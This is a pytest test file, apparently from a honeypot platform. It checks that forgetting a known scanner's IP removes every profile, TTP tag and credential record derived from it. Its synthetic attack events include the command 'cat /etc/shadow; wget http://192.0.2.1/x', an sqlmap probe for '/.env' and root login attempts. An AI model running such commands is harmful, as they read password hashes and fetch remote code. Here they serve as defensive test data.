# SPDX-License-Identifier: MIT
"""What was found out about a source before it was known is removed, as if it had never been there."""

from __future__ import annotations

from collections.abc import Callable
from typing import Any

import pytest
from sqlalchemy import Engine, select
from tests.fleet.test_replay import follow, rows

from decnet_core.events.catalogue import CommandRun, HttpRequest, LoginAttempt
from decnet_core.events.envelope import Event
from decnet_models.database.engine import reading, writing
from decnet_models.events.queries import insert_events
from decnet_models.following import known_forgetting
from decnet_models.following.cursor_worker import CursorWorker
from decnet_models.identities.tables import IDENTITIES, identity_sketch
from decnet_models.known import queries as known
from decnet_models.progress.queries import event_cursors
from decnet_workers.clusterer.worker import Clusterer
from decnet_workers.profiler.worker import Profiler
from decnet_workers.ttp.worker import Ttp

OURS, OTHER = "192.0.2.66", "192.0.2.9"
WORKERS: tuple[type[CursorWorker[Any]], ...] = (Profiler, Ttp, Clusterer)
EVIDENCE = (IDENTITIES.evidence, IDENTITIES.feature, identity_sketch)


def evidence(engine: Engine) -> list[list[str]]:
    with reading(engine) as connection:
        return [sorted(str(tuple(row)) for row in connection.execute(select(table))) for table in EVIDENCE]


def attack(make_events: Callable[..., list[Event]]) -> list[Event]:
    made: list[Event] = []
    for address in (OURS, OTHER):
        by = {"src_ip": address, "session": f"s-{address}"}
        made += make_events(1, LoginAttempt("ssh", "root", success=address == OURS, password="shared-7Qk"), **by)
        made += make_events(1, LoginAttempt("ssh", "root", success=False, password=f"own-{address}"), **by)
        made += make_events(1, CommandRun("ssh", "cat /etc/shadow; wget http://192.0.2.1/x"), **by)
        made += make_events(1, HttpRequest("GET", "/.env", user_agent="sqlmap/1.8"), **by)
    return made


def run(engine: Engine) -> None:
    for kind in WORKERS:
        processor = follow(engine, kind)
        while processor.step().lag:
            pass


def forget(engine: Engine) -> None:
    for kind in WORKERS:
        worker = kind._unstarted()
        with writing(engine) as connection:
            known_forgetting.begin(connection, kind.name)
        while worker._forget_known(engine, kind.name):
            pass


@pytest.mark.parametrize("network", [f"{OURS}/32", "192.0.2.64/26"])
def test_forgetting_leaves_what_there_would_be_without_the_source(
    engine: Engine, make_events: Callable[..., list[Event]], network: str
) -> None:
    with writing(engine) as connection:
        insert_events(connection, attack(make_events))
    run(engine)
    both, with_ours = rows(engine), evidence(engine)
    assert {row[0] for row in both["attacker"]} == {OURS, OTHER}
    with writing(engine) as connection:
        known.add(connection, network, "scanner", forget=True)
    forget(engine)
    left = rows(engine)
    assert OURS in str(both["ttp_tag"])
    assert OURS not in str({name: found for name, found in left.items() if name != "notice"})
    expected = {name: [row for row in found if OURS not in str(row)] for name, found in both.items()}
    shared = next(row for row in left["credential"] if "shared-7Qk" in str(row))
    assert shared[1:3] == (1, 0)  # uses and accepted: the other's
    del expected["credential"], expected["notice"]
    assert {name: left[name] for name in expected} == expected
    assert not any("own-192.0.2.66" in str(row) for row in left["credential"])
    assert any(OURS in row for row in with_ours[0])
    assert not any(OURS in row for found in evidence(engine) for row in found)
    with reading(engine) as connection:
        assert set(event_cursors(connection)) == {kind.name for kind in WORKERS}
